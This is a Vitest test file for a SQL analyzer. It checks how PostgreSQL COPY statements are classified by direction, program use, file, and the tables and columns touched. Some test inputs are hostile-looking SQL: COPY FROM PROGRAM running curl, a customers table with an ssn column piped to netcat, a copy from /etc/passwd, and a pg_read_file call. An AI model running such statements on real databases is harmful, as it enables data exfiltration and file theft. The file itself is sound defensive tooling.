import { beforeAll, describe, expect, it } from 'vitest';
import { loadSqlParser } from '../../../shared/sql/analyze.ts';
import { columns, one, relations } from './helpers.ts';

beforeAll(loadSqlParser);

describe('COPY', () => {
  it('COPY … TO STDOUT reads through the client connection', () => {
    const s = one('copy customers (id, ssn) to stdout with (format csv)');
    expect(s.kind).toBe('copy');
    expect(s.copy).toEqual({ direction: 'to', program: false, stdio: true });
    expect(relations(s)).toEqual(['customers:read']);
    expect(columns(s)).toEqual(['id@select=customers', 'ssn@select=customers']);
  });

  it('COPY … FROM STDIN writes the table', () => {
    const s = one('copy public.t from stdin');
    expect(s.copy).toEqual({ direction: 'from', program: false, stdio: true });
    expect(relations(s)).toEqual(['public.t:write']);
  });

  it('COPY to or from a server file names the file', () => {
    expect(one("copy t to '/tmp/out.csv'").copy).toEqual({
      direction: 'to',
      program: false,
      filename: '/tmp/out.csv',
      stdio: false,
    });
    expect(one("copy t from '/etc/passwd'").copy?.direction).toBe('from');
  });

  it('COPY … PROGRAM is a program, with its command line', () => {
    expect(one("copy t from program 'curl http://x'").copy).toEqual({
      direction: 'from',
      program: true,
      filename: 'curl http://x',
      stdio: false,
    });
    const s = one("COPY (select * from customers) TO PROGRAM 'nc host 9'");
    expect(s.copy?.program).toBe(true);
    expect(relations(s)).toEqual(['customers:read']);
  });

  it('walks the query of COPY (query) TO, including data-modifying ones', () => {
    const s = one('copy (delete from t returning *) to stdout');
    expect(s.kinds).toEqual(['copy', 'delete']);
    expect(s.noWhere).toBe(true);
    expect(relations(s)).toEqual(['t:write']);
  });

  it('walks the WHERE of COPY FROM', () => {
    expect(one("copy t from stdin where pg_read_file('/x') <> ''").functions).toEqual(['pg_read_file']);
  });
});
